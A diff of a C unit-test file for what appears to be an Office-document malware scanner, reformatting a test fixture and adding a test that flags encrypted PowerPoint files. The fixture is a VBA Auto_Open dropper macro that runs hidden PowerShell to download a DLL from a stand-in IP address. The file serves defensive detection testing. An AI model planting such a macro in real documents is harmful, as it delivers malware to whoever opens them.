@@ -13,10 +13,11 @@
 #include <stdlib.h>
 #include <string.h>
 
-static const char DROPPER[] = "Attribute VB_Name = \"Module1\"\r\n"
-                              "Sub Auto_Open()\r\n"
-                              "  Shell \"powershell -w hidden -c iwr http://198.51.100.44/a.dll\"\r\n"
-                              "End Sub\r\n";
+static const char DROPPER[] =
+    "Attribute VB_Name = \"Module1\"\r\n"
+    "Sub Auto_Open()\r\n"
+    "  Shell \"powershell -w hidden -c iwr http://198.51.100.44/a.dll\"\r\n"
+    "End Sub\r\n";
 
 static eg_report *scan_ppt(bool compress, bool with_other)
 {
@@ -155,6 +156,34 @@ static void test_ppt_encrypted(void **state)
     eg_buf_free(&doc);
 }
 
+/* An encrypted presentation whose records cannot be walked (they are encrypted up to the
+ * CryptSession10Container): the CurrentUserAtom's headerToken 0xF3D1C4DF says so. */
+static void test_ppt_encrypted_current_user(void **state)
+{
+    (void)state;
+    uint8_t cu[28] = {0, 0, 0xF6, 0x0F, 0x14, 0, 0, 0, 0x14, 0, 0, 0, 0xDF, 0xC4, 0xD1, 0xF3};
+    uint8_t junk[64];
+    for (size_t i = 0; i < sizeof junk; i++)
+        junk[i] = (uint8_t)(i * 37 + 11);
+    eg_fx_stream st[2] = {{"Current User", cu, sizeof cu},
+                          {"PowerPoint Document", junk, sizeof junk}};
+    uint8_t *ppt;
+    size_t plen;
+    assert_int_equal(eg_fx_cfb(st, 2, &ppt, &plen), EG_OK);
+    eg_report *r = eg_fx_scan("deck.ppt", ppt, plen, NULL, 0);
+    assert_true(eg_report_has_rule(r, "OFFICE.ENCRYPTED"));
+    assert_int_not_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
+    eg_report_free(r);
+    free(ppt);
+    /* the plain token (0xE391C05F) is an ordinary presentation */
+    cu[12] = 0x5F, cu[13] = 0xC0, cu[14] = 0x91, cu[15] = 0xE3;
+    assert_int_equal(eg_fx_cfb(st, 2, &ppt, &plen), EG_OK);
+    r = eg_fx_scan("deck.ppt", ppt, plen, NULL, 0);
+    assert_false(eg_report_has_rule(r, "OFFICE.ENCRYPTED"));
+    eg_report_free(r);
+    free(ppt);
+}
+
 int main(void)
 {
     if (getenv("EG_OFFICE_SEEDS"))
@@ -164,6 +193,7 @@ int main(void)
         cmocka_unit_test(test_ppt_vba_uncompressed),
         cmocka_unit_test(test_ppt_broken),
         cmocka_unit_test(test_ppt_encrypted),
+        cmocka_unit_test(test_ppt_encrypted_current_user),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
